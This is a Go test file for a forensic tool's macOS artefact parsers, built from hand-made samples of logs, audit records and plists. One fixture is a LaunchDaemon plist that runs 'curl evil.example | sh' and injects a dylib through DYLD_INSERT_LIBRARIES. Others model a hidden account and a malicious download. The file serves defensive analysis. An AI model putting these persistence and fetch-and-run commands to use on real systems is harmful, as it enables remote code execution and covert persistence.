package parse

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"time"

	"firebreak/record"
	"firebreak/timeline"
)

func be32(n ...uint32) []byte {
	var b []byte
	for _, v := range n {
		b = binary.BigEndian.AppendUint32(b, v)
	}
	return b
}

func be64(n ...uint64) []byte {
	var b []byte
	for _, v := range n {
		b = binary.BigEndian.AppendUint64(b, v)
	}
	return b
}

// aslSample is a file with two messages, of which the list has the first only.
func aslSample() []byte {
	b := append([]byte("ASL DB\x00\x00\x00\x00\x00\x00"), be32(2)...)
	b = append(b, be64(0, 1763640000)...)
	b = append(b, make([]byte, 80-len(b))...)
	text := uint64(len(b))
	body := "Failed password for root from 203.0.113.9 port 22 ssh2\x00"
	b = append(append(append(b, 0, 1), be32(uint32(len(body)))...), body...)
	inline := func(s string) uint64 {
		x := append([]byte{0x80 | byte(len(s))}, s...)
		return binary.BigEndian.Uint64(append(x, make([]byte, 8-len(x))...))
	}
	for i := range uint64(2) {
		at := uint64(len(b))
		if i == 0 {
			copy(b[16:], be64(at))
			copy(b[36:], be64(at))
		}
		b = append(append(b, 0, 0), be32(108+16+8)...)
		b = append(b, be64(0, i+1, 1763640001+i)...)
		b = append(b, be32(5)...)
		b = append(b, 0, 3, 0, 0)
		b = append(b, be32(77, 0, 0xffffffff, 0xffffffff, 80, 0, 2)...)
		b = append(b, be64(inline("mac"), inline("sshd"), 0, text, 0, 0, inline("Key"), inline("value"), 0)...)
	}
	return b
}

// bsmSample is an execve and a login that failed.
func bsmSample() []byte {
	rec := func(event uint16, tokens ...[]byte) []byte {
		body := bytes.Join(tokens, nil)
		size := uint32(18 + len(body) + 7)
		b := append(append([]byte{0x14}, be32(size)...), 11, byte(event>>8), byte(event), 0, 0)
		b = append(append(b, be32(1763640000, 250)...), body...)
		return append(append(b, 0x13, 0xb1, 0x05), be32(size)...)
	}
	subject := append(append([]byte{0x24}, be32(501, 0, 20, 501, 20, 77, 100004, 5)...), 203, 0, 113, 9)
	exec := append(append([]byte{0x3c}, be32(3)...), "/bin/sh\x00-c\x00id\x00"...)
	env := append(append([]byte{0x3d}, be32(1)...), "TOKEN=hunter2\x00"...)
	text := append([]byte{0x28, 0, 67}, "Verify password for record type Users 'moxilo' node '/Local/Default'\x00"[:67]...)
	return append(rec(23, subject, exec, env, append([]byte{0x27, 0}, be32(0)...)), rec(45023, text, append([]byte{0x27, 1}, be32(5)...))...)
}

func fseventsSample() []byte {
	body := append([]byte("Users/ann/.ssh/authorized_keys\x00"), 7, 0, 0, 0, 0, 0, 0, 0, 0x11, 0, 0x80, 0, 9, 0, 0, 0, 0, 0, 0, 0)
	return append(append([]byte("2SLD\x00\x00\x00\x00"), byte(12+len(body)), 0, 0, 0), body...)
}

func mlocateSample() []byte {
	b := append([]byte("\x00mlocate"), be32(0)...)
	b = append(append(b, "\x00\x01\x00\x00/\x00"...), be64(1763640000)...)
	return append(append(b, be32(5, 0)...), "/etc\x00\x00passwd\x00\x01cron.d\x00\x02"...)
}

func utmpxSample() []byte {
	rec := func(user, line, host string, pid uint32, kind uint16, sec uint32) []byte {
		b := make([]byte, macUtmpxSize)
		copy(b, user)
		copy(b[260:], line)
		copy(b[308:], host)
		binary.LittleEndian.PutUint32(b[292:], pid)
		binary.LittleEndian.PutUint16(b[296:], kind)
		binary.LittleEndian.PutUint32(b[300:], sec)
		return b
	}
	return bytes.Join([][]byte{
		rec(macUtmpxSignature, "", "", 0, 10, 0), rec("", "", "", 1, 2, 1763640000), rec("ann", "ttys001", "203.0.113.9", 77, 7, 1763640060), rec("ann", "ttys001", "", 77, 8, 1763640120),
	}, nil)
}

const unifiedRecord = `{"traceID":7,"eventMessage":"Failed password for root from 203.0.113.9 port 22 ssh2","eventType":"logEvent","source":null,"formatString":"%s","activityIdentifier":0,"subsystem":"com.openssh","category":"auth","threadID":9,"senderImageUUID":"A","backtrace":{"frames":[{"imageOffset":1}]},"bootUUID":"B","processImagePath":"\/usr\/sbin\/sshd","timestamp":"2025-11-20 04:00:01.123456-0800","machTimestamp":1,"messageType":"Error","processID":77,"userID":0}`

const launchdSample = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict><key>Label</key><string>com.example.update</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl evil.example | sh</string></array>
<key>RunAtLoad</key><true/><key>StartInterval</key><integer>60</integer><key>EnvironmentVariables</key><dict><key>DYLD_INSERT_LIBRARIES</key><string>/tmp/x.dylib</string><key>API</key><string>hunter2</string></dict></dict></plist>`

const accountSample = `<plist version="1.0"><dict><key>name</key><array><string>eve</string></array><key>uid</key><array><string>499</string></array><key>gid</key><array><string>80</string></array>
<key>home</key><array><string>/var/.eve</string></array><key>shell</key><array><string>/bin/bash</string></array><key>generateduid</key><array><string>U</string></array><key>ShadowHashData</key><array><data>aHVudGVyMg==</data></array>
<key>accountPolicyData</key><array><data>PHBsaXN0PjxkaWN0PjxrZXk+Y3JlYXRpb25UaW1lPC9rZXk+PHJlYWw+MTc2MzY0MDAwMC41PC9yZWFsPjwvZGljdD48L3BsaXN0Pg==</data></array></dict></plist>`

const safariSample = `<plist version="1.0"><dict><key>DownloadHistory</key><array><dict><key>DownloadEntryURL</key><string>https://evil.example/x.dmg</string><key>DownloadEntryPath</key><string>~/Downloads/x.dmg</string>
<key>DownloadEntryDateAddedKey</key><date>2025-11-20T12:00:00Z</date><key>DownloadEntryDateFinishedKey</key><date>2025-11-20T12:00:09Z</date><key>DownloadEntryProgressBytesSoFar</key><integer>77</integer></dict></array></dict></plist>`

// macSamples are small files of macOS, made by hand.
func macSamples() []sample {
	ann := "2025-11-20T12:00:01.123456Z"
	return []sample{
		{"asl", "x.asl", string(aslSample()), 3, 0, "@kind=born|@time=2025-11-20T12:00:00Z"},
		{"bsm", "current", string(bsmSample()), 2, 0, "action=exec|@source=audit|command=/bin/sh -c id|uid=501|auid=501|pid=77|src_ip=203.0.113.9|outcome=success|environment=1 variables (not copied)|@time=2025-11-20T12:00:00.25Z|@message=execve: /bin/sh -c id by uid 501"},
		{"fsevents", "0000", string(fseventsSample()), 1, 0, "path=/Users/ann/.ssh/authorized_keys|action=create|inode=9|event_id=7|@kind=undated|@message=/Users/ann/.ssh/authorized_keys: created, modified (file)"},
		{"mlocate", "mlocate.db", string(mlocateSample()), 1, 0, "path=/etc|files=1|names=passwd / cron.d|@kind=changed|@time=2025-11-20T12:00:00.000000005Z"},
		{"macos.utmpx", "utmpx", string(utmpxSample()), 3, 0, "action=boot|@kind=started|@message=boot"},
		{"macos.log", "log.ndjson", unifiedRecord + "\n" + `{"count":1,"finished":1}` + "\n", 1, 0, "@time=" + ann + "|action=login|outcome=failure|@user=root|src_ip=203.0.113.9|subsystem=com.openssh|pid=77|exe=/usr/sbin/sshd|severity=error|backtrace.frames=[{\"imageOffset\":1}]|@message=sshd[77]: Failed password for root from 203.0.113.9 port 22 ssh2"},
		{"macos.log", "log.json", "[" + unifiedRecord + ",\n" + unifiedRecord + "]", 2, 0, "@time=" + ann},
		{"macos.install", "install.log", "2025-11-20 13:00:00+01 mac installd[77]: PackageKit: ----- Begin install -----\n\tmore of it\n2025-11-20 13:00:01+01 mac installer[78]: Installed \"Evil\" (1.0)\n", 2, 0, "@host=mac|process=installd|pid=77|lines=2|@time=2025-11-20T12:00:00Z"},
		{"syslog", "appfirewall.log", "Nov 19 04:07:35 mac.local socketfilterfw[112] <Info>: Drop box: Allow TCP LISTEN  (in:0 out:1)\nNov 19 04:07:36 mac.local --- last message repeated 1 time ---\n", 2, 0, "@host=mac.local|@source=network|process=socketfilterfw|pid=112|program=Drop box|verdict=Allow|protocol=TCP|action=listen|outcome=success|severity=info"},
		{"syslog", "appfirewall.log", "Nov 19 04:07:36 mac.local Firewall[7]: Stealth Mode connection attempt to TCP 192.168.1.2:22 from 203.0.113.9:50110\n", 1, 0, "src_ip=203.0.113.9|src_port=50110|dst_ip=192.168.1.2|dst_port=22|action=block|outcome=failure|verdict=Deny"},
		{"syslog", "appfirewall.log", "Nov 19 04:07:36 mac.local Firewall[7]: Deny sshd connecting from 203.0.113.9:50110 to port 22 proto=6\n", 1, 0, "program=sshd|src_ip=203.0.113.9|src_port=50110|dst_port=22|action=block|outcome=failure"},
		{"syslog", "security.log", "Nov 19 19:11:57 secd[11] <Notice> [user{} ]: DeviceInCircle\nNov 19 19:11:57 --- last message repeated 3 time ---\n", 2, 0, "@host=web-1|process=secd|pid=11|severity=notice|@message=secd[11] <Notice> [user{} ]: DeviceInCircle"},
		{"plist", "LaunchDaemons/com.example.update.plist", launchdSample, 1, 0, "@user=root|label=com.example.update|exe=/bin/sh|command=/bin/sh -c curl evil.example ¦ sh|runs_when=RunAtLoad, every 60 s|environment=API DYLD_INSERT_LIBRARIES=/tmp/x.dylib|@source=unit|@message=launch daemon com.example.update runs /bin/sh -c curl evil.example ¦ sh (RunAtLoad, every 60 s)"},
		{"plist", "users/eve.plist", accountSample, 2, 0, "@user=eve|uid=499|password=set (not copied)|@kind=undated|@message=account eve uid 499 home /var/.eve shell /bin/bash with a password"},
		{"plist", "Downloads.plist", safariSample, 2, 0, "url=https://evil.example/x.dmg|bytes=77|@kind=started|@time=2025-11-20T12:00:00Z"},
		{"plist", "other.plist", "<plist><dict><key>a</key><true/></dict></plist>\n<!-- " + strings.Repeat("x", 9) + " -->", 0, 0, ""},
	}
}

func TestMacSamples(t *testing.T) {
	for _, s := range macSamples() {
		t.Run(s.parser+" "+s.name, func(t *testing.T) {
			got, ing := run(t, "", "/evidence/"+s.name, []byte(s.text))
			if ing.Parser != s.parser || len(got) != s.events || ing.Rejected != s.rejected {
				t.Fatalf("%s: %d events, want %d by %s; %+v", ing.Parser, len(got), s.events, s.parser, ing)
			}
			if strings.Contains(strings.Join(inWords(got), ""), "hunter2") {
				t.Error("a secret was copied")
			}
			for _, e := range got {
				if e.Offset < 0 || e.Offset >= int64(len(s.text)) {
					t.Errorf("offset %d of %d bytes", e.Offset, len(s.text))
				}
				for _, a := range e.Attributes {
					if strings.Contains(a.Value, "hunter2") {
						t.Errorf("a secret was copied into %s", a.Name)
					}
				}
			}
			for _, want := range strings.Split(s.first, "|") {
				name, value, ok := strings.Cut(want, "=")
				if !ok {
					continue
				}
				// The first record's events may share its offset: one of them has it.
				found := false
				for _, e := range got {
					found = found || wordOf(e, name) == strings.ReplaceAll(value, "¦", "|")
				}
				if !found {
					t.Errorf("no event has %s=%q: %+v", name, value, got)
				}
			}
		})
	}
}

// wordOf is an attribute, or a column behind an @.
func wordOf(e timeline.Event, name string) string {
	switch name {
	case "@message":
		return e.Message
	case "@user":
		return e.User
	case "@host":
		return e.Host
	case "@source":
		return e.Source
	case "@kind":
		return string(e.TimeKind)
	case "@time":
		return e.Time.Format(time.RFC3339Nano)
	}
	return e.Attributes.Get(name)
}

// What the list of messages lost is recovered, and the keys are told.
func TestASL(t *testing.T) {
	got, ing := run(t, "", "x.asl", aslSample())
	if ing.Recovered != 1 || ing.Events != 2 {
		t.Fatalf("%+v", ing)
	}
	for _, e := range got[1:] {
		if e.User != "root" || e.Attributes.Get("outcome") != "failure" || e.Attributes.Get("src_ip") != "203.0.113.9" || e.Attributes.Get("Key") != "value" || e.Attributes.Get("severity") != "err" || e.Host != "mac" || e.Attributes.Get("read_gid") != "80" {
			t.Errorf("%+v", e)
		}
	}
}

// Files of the corpus give as many events as plaso's tests expect.
func TestMacCorpus(t *testing.T) {
	for name, want := range map[string]struct {
		parser string
		events int64
	}{"2019.09.26.asl": {"asl", 319}, "apple.bsm": {"bsm", 54}, "fsevents/fsevents-0000000002d89b58": {"fsevents", 12}, "security.log": {"syslog", 9}, "appfirewall.log": {"syslog", 47}} {
		got, ing := run(t, "", "/evidence/"+name, corpus(t, "plaso/"+name))
		if ing.Parser != want.parser || ing.Events != want.events || ing.Rejected != 0 || ing.Recovered != 0 || len(got) == 0 {
			t.Errorf("%s: %+v", name, ing)
		}
	}
}

// A job of launchd stands at the time of its file.
func TestLaunchdTime(t *testing.T) {
	at := time.Date(2025, 11, 20, 12, 0, 0, 5, time.UTC)
	got, _ := runSource(t, Source{Exhibit: record.Exhibit{ID: "e1", Source: "/Users/ann/Library/LaunchAgents/x.plist", Before: &record.Stat{Modified: at}}}, []byte(launchdSample))
	if len(got) != 1 || !got[0].Time.Equal(at) || got[0].User != "ann" || !strings.HasPrefix(got[0].Message, "launch agent ") {
		t.Errorf("%+v", got)
	}
}

// The unified log's own files say how they are to be exported.
func TestTracev3(t *testing.T) {
	head := append([]byte{0, 0x10, 0, 0, 0x11, 0, 0, 0, 0xd0, 0, 0, 0, 0, 0, 0, 0}, make([]byte, 0xd0)...)
	got, ing := run(t, "", "0000000000000001.tracev3", head)
	if len(got) != 0 || ing.Parser != "macos.tracev3" || !strings.Contains(strings.Join(ing.Samples, ""), "log show") {
		t.Errorf("%+v", ing)
	}
}
